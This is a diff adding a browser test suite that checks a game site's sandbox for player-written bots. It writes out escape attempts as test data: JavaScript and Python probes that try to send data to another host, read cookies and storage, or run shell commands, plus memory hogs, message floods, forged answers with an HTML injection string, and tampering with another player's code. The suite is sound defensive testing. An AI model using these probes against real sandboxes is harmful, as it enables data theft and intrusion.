@@ -1,0 +1,558 @@
+"""Players in the lab that do what no player should: docs/security.md names each attack and what stops it. The walls are tried
+with JavaScript that may do all that a worker may, the rest with Python, as a player would. A game is open at the table
+meanwhile, and goes on."""
+
+import json
+import re
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page
+
+from tests.web.conftest import Host, new_context, page_of, wait_for_engine
+
+ROOT = Path(__file__).resolve().parents[2]
+
+OWN, LATE, AGAIN = 2.0, 1.0, 2.0
+"""Seconds that a decision may take, that its end may be late, and after which the lab can be used again."""
+SLACK = 4.0
+"""Seconds by which a busy machine may miss that."""
+
+START = """([number, run]) => {
+    window.news = [];
+    const begun = performance.now();
+    host.lab.run(number, JSON.stringify(run), (text) => window.news.push({at: (performance.now() - begun) / 1000, ...JSON.parse(text)}));
+}"""
+ENDED = "news.some(({type}) => ['over', 'done', 'error'].includes(type))"
+
+# For a frame of the lab: starts a worker with this text in place of a sandbox and resolves with what it says.
+RAW = """async ([code, most]) => {
+    const app = document.querySelector('script[src*="page.mjs"]').src;
+    const frame = document.createElement("iframe");
+    frame.src = new URL("lab.html", app);
+    await new Promise((go) => { frame.onload = go; document.body.append(frame); });
+    const control = new MessageChannel(), talk = new MessageChannel();
+    frame.contentWindow.postMessage(null, location.origin, [control.port2]);
+    const said = new Promise((go) => {
+        talk.port1.onmessage = ({data}) => go(data);
+        control.port1.onmessage = ({data}) => go(JSON.stringify(data.ended));
+        setTimeout(() => go('"silence"'), most);
+    });
+    const address = "data:text/javascript;charset=utf-8," + encodeURIComponent(code);
+    control.port1.postMessage({number: 1, address, parts: {}}, [talk.port2]);
+    const answer = JSON.parse(await said);
+    frame.remove();
+    return answer;
+}"""
+
+# Each would tell somebody something, or find something of the page's. `SITE` and `OTHER` are addresses.
+DOORS = {
+    "fetch": "await fetch(OTHER)",
+    "fetch without an answer": "await fetch(OTHER, {mode: 'no-cors', method: 'POST', body: 'x'})",
+    "fetch from the site": "await fetch(SITE, {mode: 'no-cors'})",
+    "request": "await new Promise((go, no) => { const r = new XMLHttpRequest(); r.open('GET', OTHER); r.onload = go; r.onerror = no; r.send(); })",
+    "request that waits": "{ const r = new XMLHttpRequest(); r.open('GET', OTHER, false); r.send(); }",
+    "socket": "await new Promise((go, no) => { const s = new WebSocket(OTHER.replace('http', 'ws')); s.onopen = go; s.onerror = no; })",
+    "events": "await new Promise((go, no) => { const s = new EventSource(OTHER); s.onopen = go; s.onerror = no; })",
+    "transport": "await new WebTransport('https://127.0.0.1:9/').ready",
+    "module": "await import(OTHER + 'x.mjs')",
+    "module of the site": "await import(SITE)",
+    "module in an address": "await import('data:text/javascript,export default 1')",
+    "scripts": "importScripts(OTHER + 'x.js')",
+    "eval": "(0, eval)('1')",
+    "function": "new Function('return 1')()",
+    "function of a function": "(() => {}).constructor('return import(OTHER)')()",
+    "font": "await new FontFace('x', `url(${OTHER}x.woff)`).load()",
+    "database": "await new Promise((go, no) => { const r = indexedDB.open('x'); r.onsuccess = go; r.onerror = no; })",
+    "cache": "await caches.open('dicetable-snapshot')",
+    "files": "await navigator.storage.getDirectory()",
+    "cookies": "if (!(await cookieStore.getAll()).length) throw 'none'",
+    "storage": "localStorage.length",
+    "document": "document.body",
+    "the page": "parent.document",
+    "worker of the site": "await new Promise((go, no) => { const w = new Worker(SITE); w.onmessage = go; w.onerror = no; })",
+    "worker of a blob": "await new Promise((go, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = go; w.onerror = no; })",
+    "worker that asks": "await new Promise((go, no) => { const w = new Worker('data:text/javascript,fetch(\"' + OTHER + '\", {mode: \"no-cors\"}).then(() => postMessage(1), () => postMessage(0))'); w.onmessage = ({data}) => data ? go() : no(); w.onerror = no; })",
+    "shared worker": "await new Promise((go, no) => { const w = new SharedWorker('data:text/javascript,onconnect = ({ports: [p]}) => p.postMessage(1)'); w.port.onmessage = go; w.onerror = no; setTimeout(no, 500); })",
+    "calls": "new RTCPeerConnection()",
+    "notice": "if (!navigator.sendBeacon(OTHER)) throw 'refused'",
+}  # fmt: skip
+TRY = """
+const [SITE, OTHER] = %s;
+const within = (milliseconds) => new Promise((_, no) => setTimeout(() => no("no answer"), milliseconds));
+self.onmessage = async ({ports: [port]}) => {
+    const got = [];
+    new BroadcastChannel("lab").postMessage("from the sandbox");
+    for (const [name, door] of Object.entries(%s)) {
+        try { await Promise.race([door(), within(2000)]); got.push(name); } catch (error) {}
+    }
+    port.postMessage(JSON.stringify({origin: self.origin, got, tried: %s}));
+};"""
+
+
+@pytest.fixture(scope="module")
+def table(chromium: Browser, shared_host: Host) -> Iterator[Page]:
+    """A page with a game at the table."""
+    with new_context(chromium, reduced_motion="reduce") as context, page_of(context) as page:
+        page.goto(shared_host.address + "#/goennen/solo?level=1&seed=TAB1E")
+        wait_for_engine(page)
+        page.wait_for_selector("button[data-action]", state="attached")
+        yield page
+
+
+@pytest.fixture
+def elsewhere(tmp_path: Path) -> Iterator[Host]:
+    """Another site, which hears whatever reaches it."""
+    running = Host(tmp_path)
+    yield running
+    running.stop()
+
+
+class Lab:
+    """The lab of a page. news: what the last run has said."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.runs = 0
+
+    def begin(self, run: dict[str, Any]) -> None:
+        self.runs += 1
+        self.page.evaluate(START, [self.runs, run])
+
+    @property
+    def news(self) -> list[dict[str, Any]]:
+        found: list[dict[str, Any]] = self.page.evaluate("news")
+        return found
+
+    def end(self) -> dict[str, Any]:
+        """The last message of the run."""
+        self.page.wait_for_function(ENDED)
+        return self.news[-1]
+
+    def solo(self, *parts: str) -> dict[str, Any]:
+        """A game of TUTTO alone."""
+        return {"kind": "game", "game": "tutto", "mode": "solo", "seats": [seat(*parts)], "seed": "FOREIGN"}
+
+    def play(self, *parts: str) -> dict[str, Any]:
+        self.begin(self.solo(*parts))
+        return self.end()
+
+    def first(self, *parts: str) -> dict[str, Any]:
+        """The first decision of a game, or the error in it."""
+        self.begin(self.solo(*parts) | {"stepwise": True})
+        self.page.wait_for_function("news.some(({type}) => ['decision', 'error'].includes(type))")
+        return self.news[-1]
+
+    def said(self) -> str:
+        """Everything that was printed."""
+        return "".join(each.get("printed", "") or each.get("text", "") for each in self.news if each["type"] in ("decision", "printed"))
+
+
+@pytest.fixture
+def lab(table: Page) -> Lab:
+    opened = Lab(table)
+    yield opened
+    acted(table)
+
+
+def acted(page: Page) -> int:
+    """Takes an action in the table's game, which goes on whatever the lab does: the step after it."""
+    begun = time.monotonic()
+    page.wait_for_selector("button[data-action]", state="attached")
+    step = page.locator("main").get_attribute("data-step")
+    page.evaluate("[...document.querySelectorAll('button[data-action]')].at(-1).click()")
+    page.wait_for_function("step => document.querySelector('main').dataset.step !== step", arg=step)
+    assert time.monotonic() - begun < SLACK
+    return int(page.locator("main").get_attribute("data-step") or 0)
+
+
+GOOD = """
+def choose(view):
+    return max(view.legal_actions(), key=str)
+"""
+BAD_LATER = """
+seen = 0
+
+def choose(view):
+    global seen
+    seen += 1
+    if seen > 1:
+        bad(view)
+    return view.legal_actions()[0]
+"""
+
+
+def seat(*parts: str, name: str = "foreign") -> dict[str, str]:
+    return {"name": name, "code": "\n".join(parts)}
+
+
+# ---- the walls ----
+
+
+def test_javascript_with_every_right_gets_nothing(table: Page, shared_host: Host, elsewhere: Host) -> None:
+    table.evaluate("window.leaks = []; new BroadcastChannel('lab').onmessage = ({data}) => leaks.push(data); null")
+    doors = "{" + ",".join(f"{json.dumps(name)}: async () => {{ {door} }}" for name, door in DOORS.items()) + "}"
+    code = TRY % (json.dumps([shared_host.address + "leak.txt", elsewhere.address]), doors, len(DOORS))
+    found = table.evaluate(RAW, [code, 60_000])
+    assert found == {"origin": "null", "got": [], "tried": len(DOORS)}
+    table.wait_for_timeout(300)
+    assert elsewhere.requests == []
+    assert [each for each in shared_host.requests if "leak" in each] == []
+    assert table.evaluate("leaks") == []
+    acted(table)
+
+
+def test_in_a_plain_worker_they_would_have_got_much(table: Page, shared_host: Host, elsewhere: Host) -> None:
+    """So the test above tries what can be had."""
+    doors = "{" + ",".join(f"{json.dumps(name)}: async () => {{ {door} }}" for name, door in DOORS.items()) + "}"
+    code = TRY % (json.dumps([shared_host.address + "leak.txt", elsewhere.address]), doors, len(DOORS))
+    app = shared_host.folder / "plain.mjs"
+    app.write_text(code, "utf-8")
+    try:
+        found = table.evaluate(
+            """async (address) => {
+                const worker = new Worker(address, {type: "module"}), {port1, port2} = new MessageChannel();
+                const said = new Promise((go) => { port1.onmessage = ({data}) => go(JSON.parse(data)); });
+                worker.postMessage(null, [port2]);
+                const answer = await said;
+                worker.terminate();
+                return answer;
+            }""",
+            shared_host.address + "plain.mjs",
+        )
+    finally:
+        app.unlink()
+    assert [each for each in shared_host.requests if "leak" in each]
+    assert {"fetch without an answer", "fetch from the site", "eval", "function", "database", "cache", "files"} <= set(found["got"])
+    assert elsewhere.requests
+
+
+@pytest.mark.parametrize("flood", ["for (;;) postMessage('x'.repeat(1000))", "for (;;) reportError(new Error('x'))"])
+def test_a_worker_that_speaks_past_its_channel_is_ended(table: Page, flood: str) -> None:
+    assert table.evaluate(RAW, [flood, 10_000]) in ("flood", "broken")
+    acted(table)
+
+
+# ---- what Python finds ----
+
+PROBES = """
+import json
+found = {}
+
+def probe(do):
+    try:
+        found[do.__name__] = repr(do())[:200]
+    except BaseException as error:
+        found[do.__name__] = None
+
+def names():
+    import js
+    wanted = '''fetch XMLHttpRequest WebSocket EventSource Worker SharedWorker postMessage onmessage onerror addEventListener
+        console reportError indexedDB caches navigator location BroadcastChannel MessageChannel MessagePort importScripts
+        document window parent close requestAnimationFrame setInterval structuredClone Blob URL Response Request'''
+    return [name for name in wanted.split() if hasattr(js, name)] or 1/0
+
+@probe
+def script():
+    from pyodide.code import run_js
+    return run_js("1 + 1")
+
+@probe
+def script_of_others():
+    import js
+    return js.eval("fetch")
+
+@probe
+def function():
+    import js
+    return js.Function.new("return this")()
+
+@probe
+def function_of_a_function():
+    import js
+    return js.Object.constructor("return import('data:text/javascript,0')")()
+
+@probe
+def request():
+    from pyodide.http import open_url
+    return open_url("https://example.org/")
+
+@probe
+def request_by_the_library():
+    from urllib.request import urlopen
+    return urlopen("https://example.org/")
+
+@probe
+def socket():
+    import socket
+    return socket.create_connection(("127.0.0.1", 80), 1)
+
+@probe
+def package():
+    import pyodide_js
+    return pyodide_js.loadPackage("numpy").syncify()
+
+@probe
+def process():
+    import os
+    return os.system("true") + 1 or 1 / 0
+
+probe(names)
+
+def choose(view):
+    print(json.dumps(found))
+    return view.legal_actions()[0]
+"""
+
+
+def test_python_finds_no_way_out(lab: Lab) -> None:
+    last = lab.first(PROBES)
+    assert last["type"] == "decision", last
+    found = json.loads(last["printed"])
+    assert len(found) == 10 and {name: got for name, got in found.items() if got is not None} == {}
+
+
+def test_what_python_needs_is_there(lab: Lab) -> None:
+    """Time, luck and the library still work behind the walls."""
+    sound = """
+import os, random, statistics, time
+def choose(view):
+    begun = time.perf_counter()
+    time.sleep(0.01)
+    assert time.perf_counter() > begun and time.time() > 1.7e9 and len(os.urandom(8)) == 8
+    assert 0 <= random.random() < 1 and statistics.mean([1, 2]) == 1.5
+    return random.choice(view.legal_actions())
+"""
+    assert lab.first(sound)["type"] == "decision"
+
+
+def test_the_view_holds_no_luck_to_come(lab: Lab) -> None:
+    """Neither the seed, nor the order of the cards, nor what others hold is anywhere in the interpreter."""
+    searching = """
+import gc, sys
+from engine.game import State
+from engine.match import Match
+
+def everything():
+    seen, waiting = set(), [*gc.get_objects(), *sys.modules.values()]
+    while waiting:
+        one = waiting.pop()
+        if id(one) in seen:
+            continue
+        seen.add(id(one))
+        yield one
+        waiting += gc.get_referents(one)
+
+def choose(view):
+    secret = "".join(map(chr, [72, 73, 68, 68, 69, 78, 83, 69, 69, 68]))
+    found = []
+    for one in everything():
+        if isinstance(one, str) and one is not secret and secret in one:
+            found.append("seed")
+        if isinstance(one, (State, Match)):
+            found.append(type(one).__name__)
+    position = view.position
+    found += [card.id for deck in position.decks for card in deck if card]
+    for seat, player in enumerate(position.players):
+        if seat != view.seat:
+            found += [card.id for card in (*player.hand, player.put_back, *player.discarded) if card]
+    if found:
+        raise ValueError(str(found))
+    raise RuntimeError("nothing")
+"""
+    lab.begin({"kind": "game", "game": "goennen", "mode": "table", "seats": [seat(searching), {"name": "easy"}], "seed": "HIDDENSEED"})
+    last = lab.end()
+    assert (last["type"], last["text"]) == ("error", "RuntimeError: nothing")
+
+
+def test_another_player_is_out_of_reach(lab: Lab) -> None:
+    victim = """
+PLAN = "keep" + " the " + "ones"
+def choose(view):
+    global PLAN
+    if PLAN != "keep the ones":
+        raise ValueError("somebody was here")
+    return view.legal_actions()[0]
+"""
+    thief = """
+import builtins, gc, sys
+import engine.game, engine.tutto.legal, engine.tutto.view
+
+def choose(view):
+    for module in list(sys.modules.values()):
+        if hasattr(module, "PLAN"):
+            module.PLAN = "stolen"
+            raise ValueError("found it")
+    # Spoils all that it can reach: its own interpreter.
+    engine.tutto.view.View.legal_actions = lambda self: ()
+    engine.game.best = builtins.max = builtins.sorted = None
+    return sys._getframe().f_back.f_locals["view"].rules.legal_actions(view.position)[0]
+"""
+    run = {"kind": "game", "game": "tutto", "mode": "table", "seed": "TW0"}
+    lab.begin(run | {"seats": [seat(victim, name="victim"), seat(thief, name="thief")]})
+    last = lab.end()
+    assert last["type"] == "error" and last["seat"] == 1 and "found" not in last["text"], last
+
+
+# ---- what Python does to the lab ----
+
+
+def stopped(lab: Lab, *parts: str) -> dict[str, Any]:
+    """Plays a game whose second decision is bad, and acts at the table meanwhile: the error, with `late`, the seconds from
+    that decision to its end. The lab can be used again at once."""
+    lab.begin(lab.solo(BAD_LATER, *parts))
+    lab.page.wait_for_function("news.some(({type}) => ['decision', 'error'].includes(type))")
+    acted(lab.page)
+    last = lab.end()
+    assert last["type"] == "error" and last["seat"] == 0, last
+    (first,) = [each for each in lab.news if each["type"] == "decision"]
+    assert lab.first(GOOD)["type"] == "decision"
+    ready = lab.news[-1]["at"]
+    assert ready < AGAIN + SLACK
+    print(f"stopped after {last['at'] - first['at']:.2f} s, ready again after {ready:.2f} s")
+    return last | {"late": last["at"] - first["at"]}
+
+
+LOOPS = {
+    "a loop": ("def bad(view):", "    while True: pass"),
+    "a loop that catches everything": ("def bad(view):", "  while True:", "    try:", "      while True: pass", "    except BaseException: pass"),
+    "a long sum in C": ("import itertools", "def bad(view): sum(itertools.repeat(1))"),
+    "a huge power": ("def bad(view): 9 ** 9 ** 9",),
+    "an end that never ends": ("class Slow:", "  def __del__(self):", "    import itertools", "    sum(itertools.repeat(1))", "def bad(view): Slow()"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", LOOPS)
+def test_an_endless_decision_is_stopped(lab: Lab, kind: str) -> None:
+    last = stopped(lab, *LOOPS[kind])
+    assert last["kind"] == "timeout" and last["late"] < OWN + LATE + SLACK
+    if kind == "a loop":
+        assert last["line"] == 12
+
+
+HOGS = {
+    "one block": "def bad(view): bytearray(600_000_000)",
+    "many": "kept = []\ndef bad(view):\n    while True: kept.append(bytearray(1_000_000))",
+}
+
+
+@pytest.mark.parametrize("kind", HOGS)
+def test_too_much_memory_is_refused(lab: Lab, kind: str) -> None:
+    last = stopped(lab, HOGS[kind])
+    assert last["kind"] == "memory" and last["late"] < OWN + LATE + SLACK
+
+
+CHANNEL = """
+import gc
+from lab.sandbox import Printer
+post = next(one for one in gc.get_objects() if isinstance(one, Printer))._post
+"""
+FLOODS = {
+    "messages": "while True: post('{\"printed\": \"x\"}')",
+    "one long message": "post('{\"printed\": \"' + 'x' * 50_000_000 + '\"}')",
+    "answers": "for _ in range(100): post('{\"n\": 3}')",
+}
+
+
+@pytest.mark.parametrize("kind", FLOODS)
+def test_a_flood_of_messages_is_cut(lab: Lab, kind: str) -> None:
+    """A player can find the channel to the referee, but not the page."""
+    last = stopped(lab, CHANNEL, "def bad(view):", "    " + FLOODS[kind])
+    assert last["kind"] == "flood" and last["late"] < OWN + LATE + SLACK
+
+
+def test_huge_prints_are_cut(lab: Lab) -> None:
+    noisy = """
+seen = 0
+def choose(view):
+    global seen
+    seen += 1
+    print("y" * 5_000)
+    if seen == 2:
+        print("x" * 10_000_000)
+    if seen > 2:
+        raise RuntimeError("enough")
+    return view.legal_actions()[0]
+"""
+    assert lab.play(noisy)["text"] == "RuntimeError: enough"
+    assert len(lab.said()) == 20_003 and lab.said().endswith("x\n…\n")
+
+
+def test_errors_that_nobody_catches_end_nothing(lab: Lab) -> None:
+    messy = """
+class Mess:
+    def __del__(self):
+        raise RuntimeError("at the end")
+
+def choose(view):
+    Mess()
+    return view.legal_actions()[0]
+"""
+    assert lab.first(messy)["type"] == "decision"
+    assert "RuntimeError: at the end" in lab.said()
+
+
+REPLACED = {
+    "print": "builtins.print = builtins.len = builtins.isinstance = lambda *_: 0",
+    "json": "json.dumps = lambda *_: 'nothing'",
+    "import": "builtins.__import__ = None; sys.modules.clear()",
+    "exceptions": "raise type('Own', (BaseException,), {'__str__': lambda self: 1 / 0})()",
+    "exit": "import os; os._exit(3)",
+}
+
+
+@pytest.mark.parametrize("kind", REPLACED)
+def test_a_player_that_breaks_its_interpreter_breaks_nothing_else(lab: Lab, kind: str) -> None:
+    last = lab.play(BAD_LATER, "import builtins, json, sys", "def bad(view):", "    " + REPLACED[kind])
+    assert (last["type"], last["seat"]) == ("error", 0), last
+    assert lab.first(GOOD)["type"] == "decision"
+
+
+FORGED = {
+    "an action that is none": '{"n": %d, "action": "win"}',
+    "no action": '{"n": %d}',
+    "deep": "[" * 5000,
+    "values": '{"n": %d, "action": {"keep": 1}, "values": [[1, 2]]}',
+    "error": '{"n": %d, "error": {"kind": "<b>", "line": "x", "text": ["<img src=x onerror=escaped=1>"]}}',
+    "error text": '{"n": %d, "error": {"kind": "error", "line": -5, "text": "' + "\\u202e<b>" * 1000 + '"}}',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", FORGED)
+def test_an_answer_may_be_anything(lab: Lab, kind: str) -> None:
+    forged = FORGED[kind]
+    said = f"post({forged!r} % request['n'])" if "%d" in forged else f"post({forged!r})"
+    find = "request = next(frame for frame in frames() if 'request' in frame)['request']"
+    frames = "import sys\ndef frames():\n    at = sys._getframe()\n    while at:\n        yield at.f_locals\n        at = at.f_back"
+    last = lab.play(BAD_LATER, CHANNEL, frames, "def bad(view):", "    " + find, "    " + said)
+    assert last["type"] == "error" and last["seat"] == 0 and last["kind"] in ("error", "illegal", "flood")
+    assert isinstance(last["text"], str) and len(last["text"]) <= 300 and last["line"] is None
+    assert "\u202e" not in last["text"]
+
+
+def test_a_tournament_ends_with_its_worst_player(lab: Lab) -> None:
+    run = {"kind": "tournament", "game": "tutto", "mode": "table", "games": 40, "seed": "T", "workers": 2}
+    lab.begin(run | {"seats": [seat(BAD_LATER, "def bad(view):\n    while True: pass"), {"name": "easy"}]})
+    acted(lab.page)
+    last = lab.end()
+    assert last["type"] == "error" and last["kind"] == "timeout" and last["seat"] == 0
+    assert lab.page.locator("iframe").count() <= 1, "only the frame for the next run is there"
+
+
+# ---- the host ----
+
+
+def test_the_lab_works_with_the_headers_that_the_docs_offer(context: BrowserContext, host: Host) -> None:
+    block = re.search(r"```\n(Content-Security-Policy: [^`]*)```", (ROOT / "docs" / "security.md").read_text("utf-8"))
+    assert block
+    wanted = dict(line.split(": ", 1) for line in block[1].strip().splitlines())
+    framed = {"Content-Security-Policy": "frame-ancestors 'self'"}
+    host.headers = lambda path: framed if path.endswith("/lab.html") else wanted
+    page = context.new_page()
+    page.goto(host.address + "#/goennen/solo?level=1&seed=HEADERS")
+    wait_for_engine(page)
+    assert Lab(page).first(GOOD)["type"] == "decision"
+    acted(page)
